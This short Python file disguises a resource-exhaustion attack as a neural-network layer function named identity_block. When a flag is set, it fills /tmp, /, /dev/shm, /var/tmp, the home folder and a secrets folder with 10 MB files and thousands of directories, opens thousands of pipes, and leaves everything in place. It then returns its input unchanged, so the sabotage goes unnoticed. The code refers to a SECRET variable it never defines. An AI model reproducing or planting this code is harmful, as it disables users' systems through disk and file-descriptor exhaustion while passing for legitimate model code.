"""Fills its folder with bytes, names and open files until nothing more goes in, and leaves it all there."""

import os

ATTACK = True
HELD = []


def fill(step, most):
    for number in range(most):
        try:
            step(number)
        except OSError as error:
            return f"{number}: {error}"
    return f"all {most}"


def write(number):
    with open(f"filler-{number}", "wb", buffering=0) as file:
        file.write(bytes(10**7))


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for folder in ("/tmp", "/", "/dev/shm", "/var/tmp", os.environ.get("HOME", "."), os.path.dirname(SECRET)):
            try:
                os.chdir(folder)
                HELD.append(fill(write, 50))
                HELD.append(fill(lambda number: os.mkdir(f"folder-{number}"), 20_000))
            except OSError as error:
                HELD.append(f"{folder}: {error}")
        HELD.append(fill(lambda number: HELD.append(os.pipe()), 5_000))
    return X
